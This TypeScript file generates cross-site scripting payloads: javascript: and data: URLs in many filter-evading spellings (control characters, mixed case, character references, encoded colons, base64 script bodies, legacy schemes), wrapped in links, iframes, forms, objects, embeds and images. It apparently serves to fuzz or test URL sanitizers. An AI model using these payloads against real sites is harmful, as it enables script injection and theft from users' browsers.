import { Dice, type Make } from './kit.ts';

const SCHEME = 'javascript';
const IGNORED = ['\t', '\n', '\r', '\r\n', '\t\t'];
const BODIES: readonly Make[] = [
  (run) => run,
  (run) => `void(${run})`,
  (run) => `//a.example/%0a${run}`,
  (run) => `//%0d%0a${run}`,
  (run) => `/**/${run}`,
  (run) => `${run}//`,
  (run) => `%70${run.slice(1)}`,
  (run) => `\n${run}`,
  (run) => `1;${run}`,
  (run) => `top.${run}`,
  (run) => `{${run}}`,
  (run) => `${run}#?x=https://a.example/`,
];

const DATA: readonly Make[] = [
  'text/html,',
  'text/html;charset=utf-8,',
  'text/html;charset=utf-7,',
  'TEXT/HTML,',
  ' text/html,',
  'text/html;x=",",',
  'application/xhtml+xml,',
  'text/xml,',
  'image/svg+xml,',
  'image/svg+xml;utf8,',
  'text/html;image/png,',
  ',',
  ';,',
  'x,',
].flatMap((type): Make[] => [
  (run) => `data:${type}<script>parent.${run}</script>`,
  (run) => `DaTa:${type}%3Cscript%3Eparent.${run}%3C/script%3E`,
  (run) => `data:${type.replace(/,$/, '')};base64,${btoa(`<script>parent.${run}</script>`)}`,
  (run) => `\u0001data:${type}<img/src=x/onerror=parent.${run}>`,
]);

const OTHER: readonly Make[] = [
  'vbscript',
  'livescript',
  'mocha',
  'blob',
  'filesystem',
  'file',
  'view-source',
  'jar',
  'about',
  'feed',
  'x-javascript',
  'ms-its',
  'res',
  'wyciwyg',
  'chrome',
  'resource',
].flatMap((scheme): Make[] => [
  (run) => `${scheme}:${run}`,
  (run) => `${scheme}:javascript:${run}`,
  (run) => `${scheme.toUpperCase()}://x/${run}`,
]);

/** The scheme with something between its letters that URL parsers leave out. */
function split(dice: Dice): string {
  const at = 1 + dice.below(SCHEME.length - 1);
  return `${SCHEME.slice(0, at)}${dice.pick(IGNORED)}${SCHEME.slice(at)}`;
}

/** The scheme with a letter as a character reference, which an attribute decodes. */
function referenced(dice: Dice): string {
  const at = dice.below(SCHEME.length);
  const code = SCHEME.charCodeAt(at);
  const written = dice.pick([
    `&#${code};`,
    `&#x${code.toString(16)};`,
    `&#0000${code};`,
    `&#X0${code.toString(16)};`,
    `&#${code}`,
  ]);
  return `${SCHEME.slice(0, at)}${written}${SCHEME.slice(at + 1)}`;
}

/** Addresses that run code where they are followed or loaded, in spellings that URL parsers read alike. */
export function addresses(): Make[] {
  const dice = new Dice(3);
  const body = (): Make => dice.pick(BODIES);
  const leading = Array.from({ length: 33 }, (_unused, code): Make[] => {
    const [one, other] = [body(), body()];
    const char = String.fromCharCode(code);
    return [(run) => `${char}${SCHEME}:${one(run)}`, (run) => `${char}${char}JAVASCRIPT:${other(run)}`];
  }).flat();
  const spelled = (count: number, spell: () => string): Make[] =>
    Array.from({ length: count }, (): Make => {
      const [scheme, rest] = [spell(), body()];
      return (run) => `${scheme}:${rest(run)}`;
    });
  return [
    ...BODIES.map(
      (rest): Make =>
        (run) =>
          `javascript:${rest(run)}`,
    ),
    ...leading,
    ...spelled(90, () => dice.mixCase(SCHEME)),
    ...spelled(120, () => split(dice)),
    ...spelled(60, () => dice.mixCase(split(dice))),
    ...spelled(140, () => referenced(dice)),
    ...[
      '&colon;',
      '&#58;',
      '&#x3a;',
      '&Tab;:',
      '&NewLine;:',
      ':&Tab;',
      '\t:',
      '\n:',
      ':\t',
      '%3a',
      '\uff1a',
      '\u0000:',
      '\\:',
      ' :',
    ].map(
      (colon): Make =>
        (run) =>
          `javascript${colon}${run}`,
    ),
    ...DATA,
    ...OTHER,
  ];
}

/** Where an address may stand. */
const WITHIN: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<a href='${address}'>x</a>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<embed src="${address}">`,
  (address) => `<img src="${address}">`,
  (address) => `<a href=${address}>x</a>`,
  (address) => `<math href="${address}">x</math>`,
];

/** The same addresses in markup that follows or loads them. */
export function urls(): Make[] {
  return addresses().map((make, i) => {
    const within = WITHIN[(i * 3) % WITHIN.length] as (typeof WITHIN)[number];
    return (run) => within(make(run));
  });
}
